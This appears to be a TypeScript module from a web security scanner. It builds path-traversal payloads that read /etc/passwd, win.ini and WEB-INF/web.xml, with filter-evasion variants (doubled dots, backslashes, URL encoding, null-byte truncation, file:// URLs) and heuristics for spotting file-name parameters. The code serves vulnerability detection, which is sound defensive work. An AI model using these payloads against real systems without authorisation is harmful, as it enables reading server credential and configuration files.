import { type Exchange, header } from '../core/evidence/http.ts';
import { type InsertionPoint, locationOf } from '../core/evidence/insertion-point.ts';

export type ServerKind = 'java' | 'other';

/** What is known of the place a file name goes to. */
export interface TraversalPlace {
  /** The value that the site itself sends. */
  readonly example: string;
  /** Path of the page that takes the parameter. */
  readonly pagePath: string;
  readonly server: ServerKind;
  /** A banner or a drive letter somewhere says so. */
  readonly isWindows: boolean;
  /** Path of the Java web application on its server, `/` for the root; null when unknown. */
  readonly contextPath: string | null;
  /** The site shows a run-time of which old versions end a file name at a zero byte; others fail on one, and a careless program with them. */
  readonly endsAtZero: boolean;
  /** Path of a static file of the site whose text is known. */
  readonly knownPath: string | null;
}

const PAYLOADS_MAX = { java: 10, other: 12 } as const;
const PASSWD = 'etc/passwd';
const WIN_INI = 'windows/win.ini';
const WEB_XML = 'WEB-INF/web.xml';
const up = (steps: number, step = '../') => step.repeat(steps);
/** More steps than any folder is deep: a file system stays at its root. */
const DEEP = 12;

/**
 * Values that lead out of the folder, most promising first, each a way that the ones before it do not cover. The first one, with a
 * slash and then up, serves code that takes a full path, that puts a folder in front, and that puts one without its slash.
 */
export function traversalPayloads(place: TraversalPlace): string[] {
  const { example, isWindows } = place;
  // What fetches an address reads files by one, and joins nothing.
  if (/^https?:/i.test(example)) return [fileUrl(isWindows), `/${up(DEEP)}${isWindows ? WIN_INI : PASSWD}`];
  const payloads = place.server === 'java' ? javaPayloads(place) : isWindows ? windowsPayloads() : unixPayloads(place);
  const folder = example.slice(0, example.lastIndexOf('/') + 1);
  // Code that demands a certain folder in front, a full path or a URL is met halfway.
  if (/^file:/i.test(example)) payloads.unshift(fileUrl(isWindows));
  else if (/^[^/].*\//.test(folder)) payloads.unshift(folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
  else if (folder.length > 1) payloads.splice(3, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
  return [...new Set(payloads)].slice(0, PAYLOADS_MAX[place.server]);
}

function unixPayloads({ example, endsAtZero, knownPath }: TraversalPlace): string[] {
  const ending = /\.[a-z][a-z0-9]{1,4}$/i.exec(example)?.[0] ?? '';
  return [
    `/${up(DEEP)}${PASSWD}`,
    up(DEEP) + PASSWD,
    // What is left when a filter has removed `../` once.
    `/${up(DEEP, '....//')}${PASSWD}`,
    `/${PASSWD}`,
    // Where an ending is demanded or appended, old run-times end the name before it.
    ...(endsAtZero ? [`/${up(DEEP)}${PASSWD}\u0000${ending}`] : []),
    // Filters that know `../` alone, before code that takes both separators; and Windows where no banner tells.
    backslashes(up(DEEP) + PASSWD),
    backslashes(up(DEEP) + WIN_INI),
    fileUrl(false),
    `%2f${up(DEEP, '%2e%2e%2f')}${PASSWD.replace('/', '%2f')}`,
    ...(knownPath === null ? [] : [`..${knownPath}`, `../..${knownPath}`]),
  ];
}

function fileUrl(isWindows: boolean): string {
  return `file:///${isWindows ? `c:/${WIN_INI}` : PASSWD}`;
}

function backslashes(path: string): string {
  return path.replaceAll('/', '\\');
}

function windowsPayloads(): string[] {
  return [
    `/${up(DEEP)}${WIN_INI}`,
    backslashes(`/${up(DEEP)}${WIN_INI}`),
    backslashes(`c:/${WIN_INI}`),
    backslashes(up(DEEP) + WIN_INI),
    `/${up(DEEP, '....//')}${WIN_INI}`,
    `%2f${up(DEEP, '%2e%2e%2f')}${WIN_INI.replace('/', '%2f')}`,
    fileUrl(true),
    // A banner of ASP.NET does not rule out another system.
    `/${up(DEEP)}${PASSWD}`,
  ];
}

/**
 * A web application reads its own resources by paths that start at its root and must not lead above it (Servlet specification,
 * section 4.6): the number of steps has to be right. The page's own folder tells it, where files lie beside the pages.
 */
function javaPayloads(place: TraversalPlace): string[] {
  const { isWindows, example } = place;
  const inside = `/${up(stepsToContext(place))}${WEB_XML}`;
  const outside = isWindows ? WIN_INI : PASSWD;
  const direct = [`/${WEB_XML}`, isWindows ? backslashes(`c:/${outside}`) : `/${outside}`];
  const payloads = [
    // Whether the program opens a file or a resource of its application: files beside the pages lead to this one either way.
    inside,
    `/${up(DEEP)}${outside}`,
    // Without a value of the site nothing tells where the path begins.
    ...(example === '' ? [`/${WEB_XML}`, fileUrl(isWindows)] : []),
    // Filters that know `../` alone leave the other separator, which Windows takes everywhere and older containers for resources.
    backslashes(isPathInApplication(place) ? `/${WEB_XML}` : inside),
    inside.replaceAll('../', '....//'),
    // Where the application is known the steps are right, and what leads into it shows all that this one would.
    ...(place.contextPath === null ? [`/${up(DEEP, '....//')}${outside}`] : []),
    ...direct,
    fileUrl(isWindows),
    `/${up(1)}${WEB_XML}`,
    isWindows ? backslashes(`/${up(DEEP)}${outside}`) : `%2f${up(DEEP, '%2e%2e%2f')}${outside.replace('/', '%2f')}`,
  ];
  if (!isPathInApplication(place)) return payloads;
  return [place.example.startsWith('\\') ? backslashes(`/${WEB_XML}`) : `/${WEB_XML}`, ...payloads];
}

function folders(path: string): string[] {
  return path.split('/').slice(1, -1);
}

function stepsToContext({ pagePath, contextPath }: TraversalPlace): number {
  const depth = folders(pagePath).length;
  // Where nothing tells, an application of several folders more often has a name than not.
  const context = contextPath === null ? (depth > 1 ? 1 : 0) : folders(`${contextPath.replace(/\/$/, '')}/`).length;
  return Math.min(Math.max(depth - context, 0), DEEP);
}

/** True when the value the site sends is a path from the root of the application, as the page's own address shows. */
function isPathInApplication({ example, pagePath }: TraversalPlace): boolean {
  const own = `/${folders(pagePath).join('/')}/`;
  const given = folders(example.replaceAll('\\', '/'));
  return /^[\\/]/.test(example) && given.length > 0 && own.endsWith(`/${given.join('/')}/`);
}

/** Names that say a file or a folder themselves. */
const FILE_NAME =
  /^(?:file\w*|f|path\w*|page|doc\w*|document|folder|dir\w*|root|template|tpl|include|inc|load|read|target|src|source|img|image|pic\w*|photo|download|attachment|resource|res|pdf|log)$/i;
/** Names that more often choose something else: a language, an item, a text. */
const VAGUE_NAME =
  /^(?:view|content|lang\w*|locale|theme|style|skin|layout|module|mod|conf\w*|name|report|show|display|url|uri|site|text|data|item|body|section|cat|prefix|open)$/i;

/**
 * How much a parameter looks as if it named a file: by its name, by the value that the site itself sends, or by what is answered
 * to that. A path most often leads to a page and not to a file.
 *
 * @param linked answer to the value of the site, where the crawl has it
 */
export function fileLikeness(
  point: InsertionPoint,
  example: string,
  linked: Exchange | null,
): 'strong' | 'vague' | null {
  if (point.kind === 'path') return /\.\w{1,5}$/.test(example) ? 'vague' : null;
  const name = locationOf(point).parameter;
  if (
    FILE_NAME.test(name) ||
    /file|path|(?:^|[_-])(?:doc|page|dir|img)(?:$|[_-])/i.test(name) ||
    /[\w-]\.[a-z][a-z0-9]{1,4}$/i.test(example)
  )
    return 'strong';
  const isVague = VAGUE_NAME.test(name) || /^\.{0,2}\/[\w./-]+$/.test(example);
  return isVague || (linked !== null && isFileType(linked)) ? 'vague' : null;
}

/** True for an answer that is no page but a file, which the parameter may well have picked. */
function isFileType({ response: { status, headers } }: Exchange): boolean {
  const type = header(headers, 'content-type') ?? '';
  return (
    status === 200 &&
    /^\s*(?:(?:image|audio|video|font)\/|text\/(?:plain|csv|markdown)|application\/(?:pdf|zip|gzip|octet-stream|msword|vnd\.))/i.test(
      type,
    )
  );
}

/** Another way to write a path, that a file system reads as the same; null for what is no plain path. */
export function sameFile(example: string): string | null {
  if (!/^[\w./ -]*[\w-]$/.test(example)) return null;
  const file = example.lastIndexOf('/') + 1;
  return `${example.slice(0, file)}./${example.slice(file)}`;
}

/** The text of a page without the values that were sent, their encodings and numbers: what must not count when answers are compared. */
export function withoutValues(text: string, values: readonly string[]): string {
  const forms = values.flatMap((value) => [
    value,
    encodeURIComponent(value),
    encodeURI(value),
    value.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`),
  ]);
  const longestFirst = [...new Set(forms)]
    .filter((form) => form !== '')
    .sort((one, other) => other.length - one.length);
  return longestFirst.reduce((rest, form) => rest.replaceAll(form, ''), text.slice(0, 64 * 1024)).replace(/\d+/g, '0');
}
